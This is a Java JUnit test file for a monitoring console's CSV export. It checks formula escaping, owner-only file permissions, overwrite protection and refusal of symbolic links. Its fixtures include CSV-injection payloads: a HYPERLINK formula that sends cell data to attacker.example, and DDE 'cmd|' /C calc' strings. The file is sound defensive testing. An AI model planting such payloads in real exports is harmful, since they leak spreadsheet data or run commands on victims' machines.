package dev.vigil.console.manager.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vigil.console.manager.api.AlertEvent;
import dev.vigil.protocol.message.AlertReport;
import dev.vigil.protocol.message.AlertState;
import dev.vigil.protocol.message.Severity;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** An export's cells cannot run in a spreadsheet, and its file cannot be turned against anyone. */
class CsvExportTest {
  @TempDir Path dir;
  private ConsoleStore store;

  @BeforeEach
  void open() throws IOException {
    store = new ConsoleStore(Files.createDirectories(dir.resolve("data")));
  }

  @AfterEach
  void close() throws Exception {
    store.close();
  }

  private void alert(String hostname, String message) {
    store.insertAlert(
        new AlertEvent(
            0,
            UUID.randomUUID().toString(),
            hostname,
            new AlertReport(1, "cpu", Severity.CRITICAL, AlertState.FIRING, 99, 90, 1_000, message),
            AlertEvent.Channel.TCP,
            2_000,
            false));
  }

  /** The cells OWASP lists as formulas: = + - @, a tab or a carriage return first. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tindented",
        "\r=1"
      })
  void aFormulaInACellIsWrittenAsText(String attack) {
    String cell = CsvExport.csv(attack);
    String unquoted =
        cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
    assertThat(unquoted).isEqualTo("'" + attack);
  }

  @Test
  void plainCellsStayAsTheyAre() {
    assertThat(CsvExport.csv("web-01")).isEqualTo("web-01");
    assertThat(CsvExport.csv("CPU at 99 %, above 90 %")).isEqualTo("\"CPU at 99 %, above 90 %\"");
    assertThat(CsvExport.csv("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
    assertThat(CsvExport.csv("")).isEmpty();
  }

  @Test
  void anExportedHostnameCannotBecomeAFormula() throws IOException {
    alert("=HYPERLINK(\"http://attacker.example\",\"web-01\")", "@SUM(1+1)*cmd|' /C calc'!A0");
    Path csv = dir.resolve("alerts.csv");
    assertThat(CsvExport.alerts(store, csv, false)).isEqualTo(1);
    List<String> lines = Files.readAllLines(csv);
    assertThat(lines.get(1))
        .contains(",\"'=HYPERLINK(\"\"http://attacker.example\"\",\"\"web-01\"\")\",")
        .contains(",'@SUM(1+1)*cmd|' /C calc'!A0,")
        .doesNotContain(",=", ",@", ",\"=", ",\"@");
  }

  @Test
  void theFileIsReadableByItsOwnerOnly() throws IOException {
    Path csv = dir.resolve("alerts.csv");
    CsvExport.alerts(store, csv, false);
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(csv)))
        .isEqualTo("rw-------");
    CsvExport.alerts(store, csv, true);
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(csv)))
        .isEqualTo("rw-------");
  }

  @Test
  void anExistingFileIsReplacedOnlyWhenAsked() throws IOException {
    Path csv = dir.resolve("report.csv");
    Files.writeString(csv, "keep me");
    assertThatThrownBy(() -> CsvExport.alerts(store, csv, false))
        .isInstanceOf(IOException.class)
        .hasMessage("it already exists; add --force to replace it");
    assertThat(Files.readString(csv)).isEqualTo("keep me");
    CsvExport.alerts(store, csv, true);
    assertThat(Files.readString(csv)).startsWith("id,raised_at,");
    assertThat(dir).isDirectoryNotContaining("glob:**.tmp");
  }

  /** Another user's link in a shared directory must not point the export at the victim's file. */
  @Test
  void aSymbolicLinkIsNeverFollowed() throws IOException {
    Path victim = dir.resolve("victim.txt");
    Files.writeString(victim, "precious");
    Path link = Files.createSymbolicLink(dir.resolve("alerts.csv"), victim);
    for (boolean replace : new boolean[] {false, true}) {
      assertThatThrownBy(() -> CsvExport.alerts(store, link, replace))
          .isInstanceOf(IOException.class)
          .hasMessageContaining("symbolic link");
    }
    Path dangling = Files.createSymbolicLink(dir.resolve("new.csv"), dir.resolve("created.txt"));
    assertThatThrownBy(() -> CsvExport.history(store, dangling, false, 0, 1, List.of()))
        .hasMessageContaining("symbolic link");
    assertThat(Files.readString(victim)).isEqualTo("precious");
    assertThat(dir.resolve("created.txt")).doesNotExist();
    assertThat(Files.isSymbolicLink(link)).isTrue();
  }
}
